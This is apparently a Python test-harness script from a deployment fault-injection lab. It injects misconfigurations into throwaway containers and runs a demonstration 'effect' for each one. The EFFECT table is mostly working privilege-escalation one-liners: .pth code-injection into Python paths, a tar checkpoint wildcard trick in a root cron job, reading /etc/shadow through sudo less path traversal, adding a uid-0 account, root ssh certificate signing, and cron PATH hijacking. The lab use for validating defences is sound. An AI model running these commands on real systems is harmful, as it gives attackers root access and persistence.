"""Show each blind7 fault's consequence on containers of a kept campaign snapshot (blind7/snap.py): inject the fault
exactly as the campaign does, then run its effect: a shell as root in the container (``runuser`` to act as another
account) and, where the effect is a login, ssh from the runner with the fleet's key (the deploy login's).

    python blind7/effects7.py PLATFORM ID [ID ...]
"""
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from deploytests.config import load_config
from deploytests.containers import Fleet
from deploytests.faults.catalogue import script
from deploytests.faults.run import Campaign
from deploytests.stacks import for_platform
from deploytests.suite.lab import APPS

from faults import ALLOWED, BLIND7

APP = APPS / "yourapplication"
camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
snap = {"tag": camp.snapshot()}
V = camp.values
H = "-H 'Host: localhost' http://127.0.0.1"


def pth(tag: str) -> str:
    """The deploy login plants a .pth in its live release's venv that records who ran it."""
    return ("d=$(ls -d {root}/current/venv/lib/python*/site-packages); "
            f"printf 'import os; open(\"/tmp/{tag}-ran-as\", \"w\").write(str(os.getuid()))\\n' > $d/zz-{tag}.pth; "
            f"chown {{login}} $d/zz-{tag}.pth; rm -f /tmp/{tag}-ran-as")


SOCK = ("runuser -u www-data -- python3 -c \"import socket,time; s=socket.create_connection(('127.0.0.1',{port})); "
        "s.sendall(b'id\\n'); time.sleep(1); print('as www-data, answer:', s.recv(4096))\"")
EFFECT = {
    "e01": SOCK.replace("{port}", "7007"),
    "e02": "grep -n -i static {vhost}; f=$(ls -d {root}/current/{package}/static); printf '<?php echo \"php ran as uid \" . posix_getuid(); ?>' > $f/x.php; "
           f"chown {{login}} $f/x.php; curl -s -i {H}/static/x.php | sed -n '1p;$p'",
    "e03": "runuser -u www-data -- sh -c 'echo \"import os\" > /tmp/zz.pth; rsync /tmp/zz.pth rsync://127.0.0.1/app/current/venv/lib/python{python_version}/site-packages/zz-rsync.pth' && "
           "ls -l {root}/current/venv/lib/python{python_version}/site-packages/zz-rsync.pth",
    "e04": SOCK.replace("{port}", "4444"),
    "e05": "rm -f /tmp/e05-ran-as; runuser -u {login} -- tmux -S /tmp/ops-pair send-keys -t pair 'id > /tmp/e05-ran-as' Enter; sleep 1; cat /tmp/e05-ran-as",
    "e06": f"curl -s -i {H}/javascript/jquery/jquery.js | head -1; curl -s {H}/javascript/jquery/jquery.js | head -c 120; echo",
    "e07": "rm -f /tmp/k7*; ssh-keygen -q -t ed25519 -N '' -f /tmp/k7; chown {login} /tmp/k7; cat /tmp/k7.pub >> $(getent passwd {login} | cut -d: -f6)/.ssh/authorized_keys; "
           "runuser -u {login} -- ssh -i /tmp/k7 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -f -N -R 0.0.0.0:9999:127.0.0.1:22 {login}@127.0.0.1; "
           "sleep 2; grep ':270F ' /proc/net/tcp /proc/net/tcp6 | head -2 && echo '(0.0.0.0:9999 / [::]:9999 listening: the forward is public)'",
    "e08": pth("e08") + "; runuser -u {app_user} -- sh -c 'echo x > {root}/shared/data/incoming/upload.jpg'; sleep 3; echo -n 'ran as uid: '; cat /tmp/e08-ran-as; echo",
    "e09": "RUNNER:sed -i '/attacker$/d' ~/.ssh/authorized_keys; grep -c attacker ~/.ssh/authorized_keys; true",
    "e10": "runuser -u {app_user} -- sh -c 'echo \"id > /tmp/e10-ran-as\" >> {root}/shared/data/shell.env'; HOME=/root bash -ic true 2>/dev/null; cat /tmp/e10-ran-as",
    "e11": "runuser -u {app_user} -- sh -c 'echo \"id >> /tmp/e11-ran-as\" >> {root}/shared/data/shell.env'; chmod 666 /tmp 2>/dev/null; touch /tmp/e11-ran-as; chmod 666 /tmp/e11-ran-as; "
           "su root -c 'bash -c true'; echo 'after su root -c bash:'; cat /tmp/e11-ran-as",
    "e12": "runuser -u {app_user} -- sh -c 'echo \"system(q(id > /tmp/e12-ran-as));\" >> {root}/shared/data/needrestart.conf'; needrestart -b -r l >/dev/null 2>&1; cat /tmp/e12-ran-as",
    "e13": pth("e13") + "; apt-get update -qq >/dev/null 2>&1; DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --reinstall netbase >/dev/null 2>&1; echo -n 'ran as uid: '; cat /tmp/e13-ran-as; echo",
    "e14": pth("e14") + "; logrotate -f /etc/logrotate.d/apache2; echo -n 'ran as uid: '; cat /tmp/e14-ran-as; echo",
    "e15": "printf '#!/bin/sh\\nid > /tmp/e15-ran-as\\nexec /bin/run-parts \"$@\"\\n' > {root}/current/venv/bin/run-parts; chmod 755 {root}/current/venv/bin/run-parts; chown {login} {root}/current/venv/bin/run-parts; "
           "env -i PATH=$(sed -n 's/^PATH=//p' /etc/crontab) sh -c 'cd / && run-parts --report /etc/cron.hourly'; grep -m1 run-parts /etc/crontab; cat /tmp/e15-ran-as",
    "e16": "cat /etc/sysctl.d/60-app-crash.conf; sysctl -p /etc/sysctl.d/60-app-crash.conf 2>&1 | tail -1; echo '(a container cannot set kernel.core_pattern: on a server systemd-sysctl applies it at boot)'",
    "e17": f"curl -s -o /dev/null -H 'Cookie: session=SECRET-e17-cookie' {H}/; sleep 2; echo -n 'nobody reads the cookie in the capture: '; runuser -u nobody -- grep -a -c SECRET-e17-cookie /tmp/lb-debug.pcap",
    "e18": "runuser -u {app_user} -- sudo -n /usr/bin/less /var/log/apache2/../../../etc/shadow | head -2",
    "e19": "runuser -u {app_user} -- sh -c 'echo import os > {prev_site}/zz-app.pth' && ls -l {prev_site}/zz-app.pth; getfacl -p {prev_site} 2>/dev/null | head -8; stat -c '%A %U:%G %n' {prev_site}",
    "e20": "runuser -u {app_user} -- su root -c id",
    "e21": "RUNNER-WWW:id",
    "e22": "grep -E '^(passwd|group|shadow)' /etc/nsswitch.conf; ls -l /var/lib/extrausers; dpkg -L libnss-extrausers | grep so; runuser -u {login} -- sh -c 'echo \"toor:x:0:0:sync:/root:/bin/bash\" >> /var/lib/extrausers/passwd'; getent passwd toor",
    "e23": "runuser -u {login} -- sh -c 'cd /tmp; rm -f rk rk.pub rk-cert.pub; ssh-keygen -q -t ed25519 -N \"\" -f rk; ssh-keygen -q -s ~/user_ca -I x -n root rk.pub; "
           "ssh -i rk -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1 id'",
    "e24": "grep -i usepam /etc/ssh/sshd_config; tail -2 /etc/security/pam_env.conf; su root -c 'echo su: LD_PRELOAD=$LD_PRELOAD; grep -m1 apm /proc/self/maps'",
    "e25": "l=$(getent passwd {login} | cut -d: -f6); python3 -c 'import sys; print([p for p in sys.path if p])'; cat /usr/lib/python3/dist-packages/distutils-precedence.pth; echo; "
           "mkdir -p $l/pylib/_distutils_hack; printf 'import os\\nopen(\"/tmp/e25-ran-as\",\"w\").write(str(os.getuid()))\\ndef add_shim():\\n    pass\\n' > $l/pylib/_distutils_hack/__init__.py; "
           "chown -R {login} $l/pylib; python3 -c pass; echo -n 'any python3 start as root imported the deploy login module: uid '; cat /tmp/e25-ran-as; echo",
    "e26": "printf 'import os as _o; open(\"/tmp/e26-ran-as\",\"w\").write(str(_o.getuid()))\\n' >> /usr/lib/python{python_version}/markupsafe/__init__.py; touch {root}/application.wsgi; sleep 2; "
           f"curl -s -o /dev/null -w '%{{{{http_code}}}} ' {H}/; sleep 1; echo -n 'markupsafe from the stdlib dir imported by uid '; cat /tmp/e26-ran-as",
    "w01": "runuser -u {app_user} -- python3 -c \"open('/srv/media/x.py', 'w').write('import os\\ndef application(e, s):\\n    s(\\'200 OK\\', [])\\n    return [(\\'uploaded .py ran as uid %d\\' % os.getuid()).encode()]\\n')\"; cat /srv/media/x.py; "
           f"curl -s -i {H}/media/x.py | sed -n '1p;$p'; tail -3 /var/log/apache2/error.log",
    "w02": "printf 'import os; open(\"/tmp/w02-ran-as\",\"a\").write(str(os.getuid())+\" \")\\n' > /usr/local/lib/python{python_version}/dist-packages/zz-w02.pth; rm -f /tmp/w02-ran-as; "
           + "apache2ctl stop; sleep 2; apache2ctl start; sleep 2; " + f"curl -s -i {H}/ | head -1; echo -n 'system site .pth ran as uids: '; cat /tmp/w02-ran-as; echo",
    "w03": "cd {root}/shared/data; runuser -u {app_user} -- sh -c 'echo \"id > /tmp/w03-ran-as\" > x.sh; touch -- \"--checkpoint=1\" \"--checkpoint-action=exec=sh x.sh\"'; "
           "sh -c \"$(sed -n 's/^15 3 \\* \\* \\* root //p' /etc/cron.d/app-data-backup)\"; cat /tmp/w03-ran-as",
    "w04": "cat /etc/systemd/system/app-worker.service; echo '(no systemd in the container: systemd.service(5): an ExecStartPre prefixed + runs with full privileges, User= ignored)'",
    "w05": "runuser -u {app_user} -- sh -c 'printf \"import os\\nopen(\\\\\"/tmp/w05-ran-as\\\\\", \\\\\"w\\\\\").write(str(os.getuid()))\\n\" >> /srv/acl/check.wsgi'; "
           f"curl -s -o /dev/null -w '%{{{{http_code}}}}\\n' {H}/admin; echo -n 'access script ran as uid '; cat /tmp/w05-ran-as; echo",
}
FAULTS = {f.id.split("-")[0]: f for f in BLIND7 + ALLOWED}


def one(fid, server, container):
    f = FAULTS[fid]
    out = [f"##### {f.id}: {f.what}"]
    res = container.exec_run(script(f, V), user="root")
    out.append(f"inject rc={res.exit_code} {res.output.decode(errors='replace').strip()[-300:]}")
    eff = EFFECT[fid]
    if eff.startswith("RUNNER"):
        user = "www-data" if eff.startswith("RUNNER-WWW") else server.user
        cmd = ["ssh", "-i", KEY, "-p", str(server.port), "-o", "BatchMode=yes", "-o", f"UserKnownHostsFile={KNOWN}",
               f"{user}@{server.host}", eff.split(":", 1)[1]]
        p = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
        out.append(f"ssh {user}@: rc={p.returncode} {p.stdout.strip()} {p.stderr.strip()[-300:]}")
        if fid == "e09":
            p = subprocess.run(cmd[:-1] + ["grep -c attacker ~/.ssh/authorized_keys"], capture_output=True, text=True, timeout=30)
            out.append(f"after that login, attacker keys in authorized_keys: {p.stdout.strip()}")
    else:
        res = container.exec_run(["sh", "-c", eff.format(**V)], user="root")
        out.append(f"effect rc={res.exit_code}:\n{res.output.decode(errors='replace').strip()[-1500:]}")
    return "\n".join(out)


ids = sys.argv[2:]
try:
    for n in range(0, len(ids), 4):
        chunk = ids[n:n + 4]
        with Fleet(count=len(chunk), name_prefix="blind7fx", image_tag=snap["tag"], progress=lambda m: None) as fleet:
            KEY, KNOWN = str(fleet.key.path), str(fleet.known_hosts)
            with ThreadPoolExecutor(max_workers=4) as pool:
                for text in pool.map(one, chunk, fleet.servers, fleet.containers):
                    print(text, flush=True)
finally:
    camp.remove_image()
